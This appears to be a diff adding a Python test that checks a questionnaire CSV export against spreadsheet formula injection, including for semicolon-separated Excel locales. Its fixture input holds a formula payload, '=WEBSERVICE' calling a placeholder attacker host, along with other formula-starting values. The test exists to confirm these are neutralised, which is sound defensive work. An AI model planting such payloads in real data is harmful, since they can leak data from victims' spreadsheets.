@@ -134,6 +134,27 @@ def test_exported_cells_never_start_a_formula(motors_template: Path, tmp_path: P
     assert rows[0]["Question"].startswith("'=HYPERLINK(") and rows[0]["Owner"] == "'@ops"
 
 
+def test_no_field_of_an_export_starts_a_formula_whatever_the_spreadsheet_splits_on(
+    motors_template: Path, tmp_path: Path
+) -> None:
+    """Excel in de/fr/it/es/nl/pl locales splits a row on `;`: a formula after one is a field's
+    start there. Every cell is quoted, and every formula start after a separator neutralised."""
+    with console_for(copy_data_dir(motors_template, tmp_path / "d")) as client:
+        created = upload(client, 'Question,Owner\n"What is lidar;=WEBSERVICE(""http://evil.example"");",ops\n'
+                                  '"=1+1;=2+2",-3\n').json()
+        answered(client, created["id"])
+        response = client.get(f"/api/admin/books/motors/questionnaires/{created['id']}/export",
+                              params={"mode": "generated"}, headers=AUTH)
+    lines = response.text.splitlines()
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)  # every cell quoted
+    for separator in ",;\t":
+        fields = [field.strip('"') for line in lines for field in line.split(separator)]
+        assert not [f for f in fields if f[:1] in ("=", "+", "-", "@")], separator
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert rows[0]["Question"] == "What is lidar;'=WEBSERVICE(\"http://evil.example\");"
+    assert (rows[1]["Question"], rows[1]["Owner"]) == ("'=1+1;'=2+2", "'-3")
+
+
 def test_a_questionnaire_left_half_answered_is_finished_after_a_restart(motors_template: Path, tmp_path: Path) -> None:
     data = copy_data_dir(motors_template, tmp_path / "d")
     questionnaire, rows = new_questionnaire("motors", "left over", "Question", QUESTIONNAIRE.encode())
